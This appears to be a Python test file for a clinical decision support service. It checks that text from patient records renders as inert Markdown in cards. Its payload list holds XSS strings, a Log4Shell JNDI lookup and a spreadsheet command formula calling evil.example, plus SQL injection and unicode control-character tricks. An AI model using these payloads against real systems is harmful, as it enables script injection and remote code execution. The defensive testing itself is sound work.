"""Proves: no text of a patient's record acts in a card: rendered as GitHub Flavored Markdown with raw HTML allowed it makes
no element, no link, no image and nothing unseen, wherever in the call it stands (rows T-INJ). With --strings FILE every
string of that JSON list is tried instead of the table here."""
import json
import pathlib
import subprocess
import sys
import tempfile
import unittest

ROOT = pathlib.Path(__file__).resolve().parent.parent.parent
sys.path.insert(0, str(ROOT / "tests" / "support"))
import hook_requests as make  # noqa: E402
from rendered_cards import faults_of_cards  # noqa: E402
from running_service import binary  # noqa: E402

ATTACKS = [
    "[x](javascript:alert(1))", "![](http://evil.example/p.png)", "![x][y]", "[y]: http://evil.example", "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>", "<a href=//evil.example>x</a>", "</p><iframe src=//evil.example>", "<!-- x", "-->", "<![CDATA[x", "<?x", "&lt;b&gt;",
    "&#60;img src=x&#62;", "http://evil.example", "HTTPS://evil.example/x?y=z", "ftp://evil.example", "www.evil.example", "WWW.EVIL.EXAMPLE",
    "a@evil.example", "mailto:a@evil.example", "xmpp:a@evil.example", "<http://evil.example>", "<a@evil.example>", "//evil.example",
    "| a | b |", "|---|---|", "a|b\n-|-", "`code`", "```", "~~~", "``", "*a*", "**a**", "_a_", "~a~", "~~a~~", "# a", "a\n===", "a\n---", "- a", "+ a",
    "* a", "1. a", "1) a", "999999999) a", "- [ ] a", "> a", "    a", "\ta", "---", "***", "___", "===", "\\", "\\\\", "a\\", "[^1]", "[^1]: x", ":smile:", "$a$",
    "\u202egnitide\u202c", "\u2066a\u2069", "a\u200bb", "\ufeffa", "a\u00adb", "\u2028a\u2029b", "\U000e0041a", "\U0001d173a", "\u180ea", "\u061ca", "\u034fa", "\u3164",
    "a\rb", "a\x1b[31mb", "a\x07b", "a\x7fb", "a\x85b", "\ufffe", "\ufff9a", "e\u0301" * 60, "\U0001F468\u200d\U0001F469\u200d\U0001F467" * 30, "x" * 5000,
    "{iu_per_day}", "{", "}", "{components}", "%s%n", "${jndi:ldap://evil.example/a}", "=cmd|' /C calc'!A0", "'; DROP TABLE card; --", "\"}],\"x\":[{\"",
]


def concept(resource):
    return resource["medicationCodeableConcept"]


def draft(call):
    return call["context"]["draftOrders"]["entry"][0]["resource"]


def listed(call):
    return call["prefetch"]["medications"]["entry"][0]["resource"]


def result(call):
    return call["prefetch"]["magnesium"]["entry"][0]["resource"]


def set_result(call, **members):
    result(call).update(members)


def everywhere(value, text, path=()):
    """The call with that text in every member of its resources that says something to a person."""
    if isinstance(value, dict):
        return {key: text if key in ("text", "display", "unit", "family", "userComment", "title") and isinstance(item, str)
                else everywhere(item, text) for key, item in value.items()}
    return [everywhere(item, text) for item in value] if isinstance(value, list) else value


# Where a text can stand; the first ones reach a card, as test_TheTextsReachTheCards shows.
PLACES = {
    "order text": lambda call, text: concept(draft(call)).update(text=text),
    "order text without a code": lambda call, text: draft(call).update(medicationCodeableConcept={"text": "cholecalciferol 50,000 unit " + text}),
    "unit of a low result": lambda call, text: set_result(call, valueQuantity={"value": 0.4, "unit": text, "system": make.UCUM, "code": "mmol/L"}),
    "value of a result": lambda call, text: (result(call).pop("valueQuantity", None), set_result(call, valueString=text)),
    "name and site of a result": lambda call, text: set_result(call, code={"coding": [{"system": make.LOINC, "code": "19123-9", "display": text}], "text": text}, specimen={"display": text}),
    "everything a person reads": None,
    "listed order's text": lambda call, text: listed(call).update(medicationCodeableConcept={"text": "omeprazole " + text}),
    "ids": lambda call, text: (draft(call).update(id=text), listed(call).update(id=text), result(call).update(id=text)),
    "user and encounter": lambda call, text: call["context"].update(userId=text or " x", encounterId=text),
    "codes": lambda call, text: (concept(draft(call))["coding"].append({"system": text, "code": text, "display": text}),
                                 set_result(call, interpretation=[{"text": text}], comparator=text, referenceRange=[{"low": {"value": 1, "unit": text}, "text": text}])),
    "dates": lambda call, text: (draft(call).update(authoredOn=text), listed(call).update(authoredOn=text), set_result(call, effectiveDateTime=text)),
    "instructions": lambda call, text: (draft(call)["dosageInstruction"][0].update(text=text), listed(call)["dosageInstruction"][0].update(text=text)),
    "problems": lambda call, text: call["prefetch"].update(conditions=make.bundle(
        {"resourceType": "Condition", "id": "c", "subject": {"reference": f"Patient/{make.PATIENT}"}, "clinicalStatus": {"coding": [{"code": "active"}]},
         "code": {"coding": [{"system": "http://hl7.org/fhir/sid/icd-10-cm", "code": "E83.42", "display": text}], "text": text}})),
}


def call_with(place, text):
    call = make.request(prefetch=make.prefetch(magnesium=make.bundle(make.magnesium(value=1.1, days_ago=5))))
    if place == "everything a person reads":
        return everywhere(call, text)
    PLACES[place](call, text)
    return call


def evaluate(calls):
    """The answers of `cofactor evaluate`, one a call."""
    lines = "".join(json.dumps(call) + "\n" for call in calls)
    done = subprocess.run([binary(), "evaluate", "--ndjson", "-"], input=lines.encode(), capture_output=True, timeout=300)
    answers = [json.loads(line) for line in done.stdout.splitlines()]
    assert len(answers) == len(calls), (len(answers), len(calls), done.stderr[-500:])
    return answers


class InertText(unittest.TestCase):
    strings = ATTACKS

    def test_T_INJ_1_NothingOfARecordActsInACard(self):
        for place in PLACES:
            with self.subTest(place):
                texts = [text for text in self.strings if "\x00" not in text]
                cards, refused = [], 0
                for answer in evaluate([call_with(place, text) for text in texts]):
                    refused += "error" in answer
                    cards += answer.get("cards", [])
                # Only what the envelope itself needs may be refused.
                self.assertLessEqual(refused, len(texts) if place == "user and encounter" else 0)
                self.assertGreater(len(cards), len(texts) * 0.6)
                self.assertEqual(faults_of_cards(cards)[:5], [])

    def test_T_INJ_1_TheTextsReachTheCards(self):
        """Else the test above proves nothing."""
        mark = "qzx7"
        for place in list(PLACES)[:4]:
            card = evaluate([call_with(place, mark)])[0]["cards"][0]
            self.assertIn(mark, card["summary"] + card["detail"], place)

    def test_T_INJ_1_ANameOfNothingButUnseenCharactersIsNoName(self):
        call = make.request(prefetch=make.prefetch(magnesium=None))
        concept(draft(call))["text"] = "\u202e\u200b\ufeff"
        card = evaluate([call])[0]["cards"][0]
        self.assertNotIn(": ,", card["detail"])
        self.assertIn("ergocalciferol", card["detail"])

    def test_T_INJ_1_AMegabyteOfTextIsCut(self):
        for text in ("x" * 1_000_000, "<b>" * 300_000, "a\u202e" * 150_000, "e\u0301" * 150_000, "a@b.example " * 80_000):
            call = make.request(prefetch=make.prefetch(magnesium=None))
            concept(draft(call))["text"] = text
            cards = evaluate([call])[0]["cards"]
            self.assertEqual(faults_of_cards(cards), [])
            self.assertTrue(cards)
            self.assertLess(len(cards[0]["detail"]), 4000)

    def test_T_INJ_2_AddressesAreTheConfiguredOnesOnly(self):
        configured = "https://pharmacy.example/vitamin-d"
        with tempfile.NamedTemporaryFile("w", suffix=".json") as config:
            json.dump({"listen": "127.0.0.1:8080", "publicBaseUrl": "http://127.0.0.1:8080", "clients": [{"name": "demo", "authentication": "none"}],
                       "audit": {"store": "sqlite:/nowhere/audit.db"}, "sourceUrl": configured}, config)
            config.flush()
            evil = "https://evil.example/"
            call = everywhere(call_with("order text", evil), evil)
            call.update(fhirServer=evil)
            done = subprocess.run([binary(), "evaluate", "--config", config.name, "-"], input=json.dumps(call).encode(), capture_output=True, timeout=60)
            self.assertEqual(done.returncode, 0, done.stderr)
        cards = json.loads(done.stdout)["cards"]
        self.assertTrue(cards)
        for card in cards:
            self.assertEqual(card["source"]["url"], configured)
            self.assertNotIn("links", card)
            self.assertNotIn("appContext", json.dumps(card))
            self.assertNotIn("icon", card["source"])


if __name__ == "__main__":
    if "--strings" in sys.argv:
        at = sys.argv.index("--strings")
        InertText.strings = json.loads(pathlib.Path(sys.argv[at + 1]).read_text(encoding="utf-8"))
        assert len(InertText.strings) > 400
        del sys.argv[at:at + 2]
    unittest.main(verbosity=1)
